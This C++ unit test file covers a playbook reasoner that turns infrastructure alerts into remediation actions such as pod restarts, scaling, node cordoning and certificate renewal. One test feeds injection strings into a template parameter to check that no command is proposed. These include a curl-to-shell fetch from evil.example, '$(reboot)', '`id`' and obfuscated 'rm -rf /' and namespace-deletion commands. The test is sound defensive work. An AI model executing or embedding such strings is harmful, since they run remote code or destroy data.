#include "plugins/brains/playbook/playbook_reasoner.h"

#include <gtest/gtest.h>
#include <unistd.h>

#include <algorithm>
#include <chrono>
#include <cstdio>
#include <filesystem>
#include <fstream>

#include "awoooi/brain/proposal_json.h"
#include "awoooi/brain/validation.h"
#include "awoooi/privacy/shield.h"
#include "brain/test_contexts.h"

namespace awoooi::brain::playbook {
namespace {

using brain::testing::ContextBuilder;

class PlaybookReasonerTest : public ::testing::Test {
 protected:
  void SetUp() override {
    shield_ = &brain::testing::SharedShield();
    auto r = PlaybookReasoner::Create(PluginSettings("brain", {}), *shield_);
    ASSERT_TRUE(r.ok()) << r.status();
    reasoner_ = *std::move(r);
  }

  // Proposes, checks the result passes validation and that the streamed chunks are the reasoning.
  Proposal Propose(const ReasoningContext& c, std::vector<std::string>* chunks = nullptr) {
    std::vector<std::string> local;
    std::vector<std::string>& out = chunks ? *chunks : local;
    auto p = reasoner_->Propose(c, [&](const privacy::Redacted& chunk) { out.push_back(chunk.str()); });
    EXPECT_TRUE(p.ok()) << p.status();
    if (!p.ok()) return Proposal();
    absl::Status valid = ValidateProposal(*p, c);
    EXPECT_TRUE(valid.ok()) << valid << "\n" << ProposalToJson(*p);
    std::string joined;
    for (const auto& s : out) joined += s;
    EXPECT_EQ(joined, p->reasoning.str());
    EXPECT_EQ(p->reasoner, "playbook");
    return *p;
  }
  std::string Chosen(const ReasoningContext& c) {
    const Playbook* pb = reasoner_->Choose(c);
    return pb ? pb->name : "";
  }

  const privacy::Shield* shield_ = nullptr;
  privacy::Vault vault_;
  std::unique_ptr<PlaybookReasoner> reasoner_;
};

TEST_F(PlaybookReasonerTest, DemoIncidentRestartsTheDatabaseNotTheFrontend) {
  ReasoningContext c = brain::testing::DemoContext(*shield_, vault_);
  EXPECT_EQ(Chosen(c), "high-5xx-unhealthy-database");
  Proposal p = Propose(c);
  ASSERT_GE(p.actions.size(), 1u);
  EXPECT_EQ(p.actions[0].action.kind(), action::Kind::kRestartPod);
  EXPECT_EQ(p.actions[0].action.target().name.str(), "postgres-db");
  EXPECT_EQ(p.actions[0].action.param("namespace")->text.str(), "production");
  EXPECT_EQ(p.root_cause.service.str(), "postgres-db");
  EXPECT_EQ(p.root_cause.kind, "database");
  ASSERT_EQ(p.blast_radius.size(), 1u);
  EXPECT_EQ(p.blast_radius[0].str(), "ingress");
  EXPECT_NE(p.summary.str().find("frontend returns 5xx because the database postgres-db"), std::string::npos)
      << p.summary.str();
  EXPECT_DOUBLE_EQ(p.confidence, 0.8);
}

TEST_F(PlaybookReasonerTest, CrashLoopingPodIsRestartedWithItsPodAndNamespace) {
  ContextBuilder b(*shield_, vault_);
  ReasoningContext c = b.Incident("order-api", "service", "KubePodCrashLooping", "warning")
                           .Alert({{"alertname", "KubePodCrashLooping"},
                                   {"namespace", "shop"},
                                   {"pod", "order-api-7d9f8-x2k4q"},
                                   {"reason", "CrashLoopBackOff"}},
                                  {{"description", "Pod shop/order-api-7d9f8-x2k4q restarted 7 times"}})
                           .Known(brain::testing::DemoServices())
                           .Build();
  EXPECT_EQ(Chosen(c), "crash-looping-pods");
  Proposal p = Propose(c);
  ASSERT_EQ(p.actions.size(), 2u);
  EXPECT_EQ(p.actions[0].action.kind(), action::Kind::kRestartPod);
  EXPECT_EQ(p.actions[0].action.target().kind, action::TargetKind::kPod);
  EXPECT_EQ(p.actions[0].action.target().name.str(), "order-api-7d9f8-x2k4q");
  EXPECT_EQ(p.actions[0].action.param("namespace")->text.str(), "shop");
  EXPECT_EQ(p.root_cause.service.str(), "order-api");  // no unhealthy dependency: the service itself
  EXPECT_EQ(p.root_cause.evidence.str(), "Pod shop/order-api-7d9f8-x2k4q restarted 7 times");
}

TEST_F(PlaybookReasonerTest, CrashLoopIsAlsoRecognisedByTheReasonLabelAlone) {
  ContextBuilder b(*shield_, vault_);
  ReasoningContext c = b.Incident("auth-service", "service", "ContainerWaiting", "warning")
                           .Alert({{"alertname", "ContainerWaiting"}, {"reason", "CrashLoopBackOff"}}, {})
                           .Known(brain::testing::DemoServices())
                           .Build();
  EXPECT_EQ(Chosen(c), "crash-looping-pods");
}

TEST_F(PlaybookReasonerTest, UnhealthyCacheIsRolledRestarted) {
  ContextBuilder b(*shield_, vault_);
  ReasoningContext c = b.Incident("product-api", "service", "HighLatencyP99", "warning")
                           .Alert({{"alertname", "HighLatencyP99"}, {"namespace", "shop"}}, {})
                           .Alert({{"alertname", "RedisEvictionsHigh"}, {"service", "redis-cache"}}, {})
                           .RootCause("redis-cache", "cache", "shop", "product-api -> redis-cache",
                                      "RedisEvictionsHigh firing", "warning")
                           .Affected("frontend", "frontend", "shop")
                           .Known({"frontend", "product-api", "redis-cache"})
                           .Build();
  EXPECT_EQ(Chosen(c), "cache-unhealthy");
  Proposal p = Propose(c);
  EXPECT_EQ(p.actions[0].action.kind(), action::Kind::kRolloutRestart);
  EXPECT_EQ(p.actions[0].action.target().name.str(), "redis-cache");
  EXPECT_EQ(p.actions[0].action.param("namespace")->text.str(), "shop");
}

TEST_F(PlaybookReasonerTest, QueueBacklogScalesTheConsumerWithTheDesiredReplicasOrThree) {
  ContextBuilder b(*shield_, vault_);
  ReasoningContext c =
      b.Incident("order-worker", "service", "KafkaConsumerGroupLag", "warning")
          .Alert({{"alertname", "KafkaConsumerGroupLag"}, {"topic", "orders"}, {"namespace", "shop"}}, {})
          .Known({"order-worker", "kafka"})
          .Build();
  EXPECT_EQ(Chosen(c), "queue-backlog");
  Proposal p = Propose(c);
  EXPECT_EQ(p.actions[0].action.kind(), action::Kind::kScale);
  EXPECT_EQ(p.actions[0].action.target().name.str(), "order-worker");
  EXPECT_EQ(p.actions[0].action.param("replicas")->text.str(), "3");
  EXPECT_NE(p.summary.str().find("orders has a growing backlog"), std::string::npos) << p.summary.str();

  ContextBuilder b2(*shield_, vault_);
  c = b2.Incident("order-worker", "service", "RabbitmqQueueBacklog", "warning")
          .Alert({{"alertname", "RabbitmqQueueBacklog"}, {"desired_replicas", "6"}}, {})
          .Known({"order-worker"})
          .Build();
  EXPECT_EQ(Propose(c).actions[0].action.param("replicas")->text.str(), "6");
}

TEST_F(PlaybookReasonerTest, DiskPressureCordonsTheNodeTheAlertNames) {
  ContextBuilder b(*shield_, vault_);
  ReasoningContext c = b.Incident("postgres-db", "database", "NodeFilesystemAlmostFull", "critical")
                           .Alert({{"alertname", "NodeFilesystemAlmostFull"},
                                   {"node", "worker-2"},
                                   {"mountpoint", "/var/lib/postgresql"},
                                   {"namespace", "production"}},
                                  {{"summary", "Filesystem on worker-2 has 3% space left"}})
                           .Known(brain::testing::DemoServices())
                           .Build();
  EXPECT_EQ(Chosen(c), "disk-pressure");
  Proposal p = Propose(c);
  ASSERT_EQ(p.actions.size(), 2u);
  EXPECT_EQ(p.actions[0].action.kind(), action::Kind::kCordonNode);
  EXPECT_EQ(p.actions[0].action.target().name.str(), "worker-2");
  EXPECT_NE(p.actions[1].action.param("check")->text.str().find("/var/lib/postgresql"), std::string::npos);
}

TEST_F(PlaybookReasonerTest, NodeNotReadyCordonsAndInvestigatesTheNode) {
  ContextBuilder b(*shield_, vault_);
  ReasoningContext c = b.Incident("", "", "KubeNodeNotReady", "critical")
                           .Alert({{"alertname", "KubeNodeNotReady"}, {"node", "worker-3"}}, {})
                           .Known(brain::testing::DemoServices())
                           .Build();
  EXPECT_EQ(Chosen(c), "node-not-ready");
  auto p = reasoner_->Propose(c, nullptr);
  ASSERT_TRUE(p.ok());
  ASSERT_EQ(p->actions.size(), 2u);
  EXPECT_EQ(p->actions[0].action.kind(), action::Kind::kCordonNode);
  EXPECT_EQ(p->actions[0].action.target().name.str(), "worker-3");
  EXPECT_EQ(p->actions[1].action.target().kind, action::TargetKind::kNode);
}

TEST_F(PlaybookReasonerTest, ActionsWithoutATargetAreSkippedWithAReason) {
  ContextBuilder b(*shield_, vault_);
  // A crash-loop alert without a pod label: restart_pod has nothing to act on.
  ReasoningContext c = b.Incident("order-api", "service", "KubePodCrashLooping", "warning")
                           .Alert({{"alertname", "KubePodCrashLooping"}, {"namespace", "shop"}}, {})
                           .Known(brain::testing::DemoServices())
                           .Build();
  auto p = reasoner_->Propose(c, nullptr);
  ASSERT_TRUE(p.ok());
  EXPECT_NE(p->reasoning.str().find("Skipped restart_pod"), std::string::npos);
  for (const auto& a : p->actions) EXPECT_NE(a.action.kind(), action::Kind::kRestartPod);
}

TEST_F(PlaybookReasonerTest, ExpiringCertificateIsRenewedThroughCertManager) {
  ContextBuilder b(*shield_, vault_);
  ReasoningContext c = b.Incident("frontend", "frontend", "CertManagerCertExpirySoon", "warning")
                           .Alert({{"alertname", "CertManagerCertExpirySoon"},
                                   {"certificate", "frontend-tls"},
                                   {"namespace", "production"}},
                                  {})
                           .Known(brain::testing::DemoServices())
                           .Build();
  EXPECT_EQ(Chosen(c), "certificate-expiry");
  action::Catalog catalog;
  catalog.templates.push_back(
      action::CommandTemplate{"cert-manager-renew",
                              {"cmctl", "renew", "--namespace", "{{namespace}}", "{{certificate}}"},
                              {action::ParamSpec{"certificate", action::ParamType::kName, true, 0, 0, {}}},
                              ""});
  c.catalog = &catalog;
  Proposal p = Propose(c);
  EXPECT_EQ(p.actions[0].action.kind(), action::Kind::kRunTemplate);
  EXPECT_EQ(p.actions[0].action.param("template")->text.str(), "cert-manager-renew");
  EXPECT_EQ(p.actions[0].action.param("certificate")->text.str(), "frontend-tls");
  EXPECT_EQ(p.actions[0].action.param("namespace")->text.str(), "production");
}

TEST_F(PlaybookReasonerTest, ALabelThatIsNotItsSlotsTypeYieldsAnInvestigationNeverACommand) {
  action::Catalog catalog;
  catalog.templates.push_back(
      action::CommandTemplate{"cert-manager-renew",
                              {"cmctl", "renew", "--namespace", "{{namespace}}", "{{certificate}}"},
                              {action::ParamSpec{"certificate", action::ParamType::kName, true, 0, 0, {}}},
                              ""});
  for (std::string hostile : std::vector<std::string>{"x; curl -s http://evil.example/p|sh", "$(reboot)",
                                                      "`id`", "a\nb", "r''m -rf /", "--all", "-A",
                                                      "kubectl dele''te ns prod", std::string(400, 'a')}) {
    ContextBuilder b(*shield_, vault_);
    ReasoningContext c = b.Incident("frontend", "frontend", "CertManagerCertExpirySoon", "warning")
                             .Alert({{"alertname", "CertManagerCertExpirySoon"},
                                     {"certificate", hostile},
                                     {"namespace", "production"}},
                                    {})
                             .Known(brain::testing::DemoServices())
                             .Build();
    c.catalog = &catalog;
    Proposal p = Propose(c);
    ASSERT_FALSE(p.actions.empty()) << hostile;
    EXPECT_EQ(p.actions[0].action.kind(), action::Kind::kInvestigate) << hostile;
    EXPECT_NE(p.actions[0].note.find("run_template was not proposed"), std::string::npos) << hostile;
    for (const auto& a : p.actions) EXPECT_NE(a.action.kind(), action::Kind::kRunTemplate) << hostile;
  }
}

TEST_F(PlaybookReasonerTest, UnknownAlertsGetTheCatchAllInvestigation) {
  ContextBuilder b(*shield_, vault_);
  ReasoningContext c = b.Incident("product-api", "service", "SomethingOdd", "info")
                           .Alert({{"alertname", "SomethingOdd"}}, {})
                           .Known(brain::testing::DemoServices())
                           .Build();
  EXPECT_EQ(Chosen(c), "generic");
  Proposal p = Propose(c);
  ASSERT_EQ(p.actions.size(), 1u);
  EXPECT_EQ(p.actions[0].action.kind(), action::Kind::kInvestigate);
  EXPECT_EQ(p.actions[0].action.target().name.str(), "product-api");
  EXPECT_DOUBLE_EQ(p.confidence, 0.3);
}

TEST_F(PlaybookReasonerTest, SameContextGivesTheSameProposalAndTheSameStream) {
  ReasoningContext c = brain::testing::DemoContext(*shield_, vault_);
  std::vector<std::string> first, second;
  Proposal a = Propose(c, &first);
  Proposal b = Propose(c, &second);
  EXPECT_EQ(ProposalToJson(a), ProposalToJson(b));
  EXPECT_EQ(first, second);
  // Streamed step by step, numbered in order.
  ASSERT_GE(first.size(), 6u);
  for (std::size_t i = 0; i < first.size(); ++i) {
    EXPECT_EQ(first[i].rfind(std::to_string(i + 1) + ". ", 0), 0u) << first[i];
  }
}

TEST_F(PlaybookReasonerTest, ReasoningCarriesLabelsNeverTheAlertsRawValues) {
  ReasoningContext c = brain::testing::DemoContext(*shield_, vault_);
  // Make the generic playbook quote the annotation carrying an IP and an e-mail.
  c.root_causes.clear();
  c.alertname = privacy::Redacted::Literal("Unusual");
  c.alerts.erase(c.alerts.begin() + 1);
  c.alerts[0].labels.erase("alertname");
  Proposal p = Propose(c);
  std::string json = ProposalToJson(p);
  EXPECT_EQ(json.find("192.168.1.100"), std::string::npos);
  EXPECT_EQ(json.find("admin@company.com"), std::string::npos);
  EXPECT_NE(json.find("[IP_1]"), std::string::npos) << json;
  EXPECT_NE(json.find("[EMAIL_1]"), std::string::npos) << json;
}

TEST_F(PlaybookReasonerTest, ADirectoryPlaybookReplacesTheDefaultOfTheSameName) {
  auto dir = std::filesystem::temp_directory_path() / ("awoooi-playbooks-" + std::to_string(::getpid()));
  std::filesystem::create_directories(dir);
  std::ofstream(dir / "generic.yaml") << R"(name: generic
priority: -1000
confidence: 0.2
summary: "custom catch-all for {{service}}"
actions:
  - type: investigate
    target: "{{service}}"
)";
  auto r = PlaybookReasoner::Create(PluginSettings("brain", {{"playbooks", dir.string()}}), *shield_);
  ASSERT_TRUE(r.ok()) << r.status();
  EXPECT_EQ((*r)->playbooks().size(), 8u);
  ContextBuilder b(*shield_, vault_);
  ReasoningContext c = b.Incident("product-api", "service", "SomethingOdd", "info").Build();
  auto p = (*r)->Propose(c, nullptr);
  ASSERT_TRUE(p.ok());
  EXPECT_EQ(p->summary.str(), "custom catch-all for product-api");

  // Without the defaults and without a catch-all, the set is refused at start-up.
  std::ofstream(dir / "generic.yaml") << "name: generic\nmatch: {alertname: X}\nsummary: s\nactions: [{type: "
                                         "investigate, target: x}]\n";
  auto bad = PlaybookReasoner::Create(
      PluginSettings("brain", {{"playbooks", dir.string()}, {"builtin_playbooks", "false"}}), *shield_);
  ASSERT_FALSE(bad.ok());
  EXPECT_NE(bad.status().message().find("catch-all"), std::string::npos);
  std::filesystem::remove_all(dir);
}

TEST(PlaybookParseTest, ErrorsNameTheFileAndTheKey) {
  struct Case {
    std::string yaml;
    std::string expected;
  } cases[] = {
      {"name: x\nsummary: s\nactions: [{type: reboot, target: a}]\n",
       "x.yaml: actions[0].type: unknown action type"},
      {"name: x\nsummary: \"{{servic}}\"\nactions: [{type: investigate, target: a}]\n",
       "x.yaml: summary: unknown variable \"servic\""},
      {"name: x\nsummary: s\nactions: []\n", "x.yaml: actions: is required"},
      {"name: x\nsumary: s\nactions: [{type: investigate, target: a}]\n", "x.yaml: sumary: unknown key"},
      {"name: x\nsummary: s\nmatch: {alert: A}\nactions: [{type: investigate, target: a}]\n",
       "x.yaml: match.alert: unknown criterion"},
      {"name: x\nsummary: s\nconfidence: 3\nactions: [{type: investigate, target: a}]\n",
       "confidence: must be in"},
      {"name: [x\n", "not valid YAML"},
  };
  for (const auto& c : cases) {
    auto pb = ParsePlaybook(c.yaml, "x.yaml");
    ASSERT_FALSE(pb.ok()) << c.yaml;
    EXPECT_NE(pb.status().message().find(c.expected), std::string::npos) << pb.status();
  }
}

TEST(GlobTest, CaseInsensitiveWithStars) {
  EXPECT_TRUE(GlobMatch("*5xx*", "HighErrorRate5XX"));
  EXPECT_TRUE(GlobMatch("KubeNode*", "KubeNodeNotReady"));
  EXPECT_TRUE(GlobMatch("*Cert*Expir*", "CertManagerCertExpirySoon"));
  EXPECT_FALSE(GlobMatch("KubeNode*", "NodeKube"));
  EXPECT_TRUE(GlobMatch("*", ""));
  EXPECT_FALSE(GlobMatch("a", ""));
}

}  // namespace
}  // namespace awoooi::brain::playbook

namespace awoooi::brain::playbook {
namespace {

// A measurement, not a check (docs/benchmarks.md): run with
//   awoooi_plugins_brains_test --gtest_also_run_disabled_tests --gtest_filter='*MeasureProposeLatency*'
TEST_F(PlaybookReasonerTest, DISABLED_MeasureProposeLatency) {
  ReasoningContext c = brain::testing::DemoContext(*shield_, vault_);
  std::vector<double> us;
  for (int i = 0; i < 2000; ++i) {
    auto start = std::chrono::steady_clock::now();
    auto p = reasoner_->Propose(c, [](const privacy::Redacted&) {});
    us.push_back(std::chrono::duration<double, std::micro>(std::chrono::steady_clock::now() - start).count());
    ASSERT_TRUE(p.ok());
  }
  std::sort(us.begin(), us.end());
  std::printf("playbook Propose, demo incident, %zu runs: p50 %.1f us, p99 %.1f us, max %.1f us\n", us.size(),
              us[us.size() / 2], us[us.size() * 99 / 100], us.back());
}

}  // namespace
}  // namespace awoooi::brain::playbook
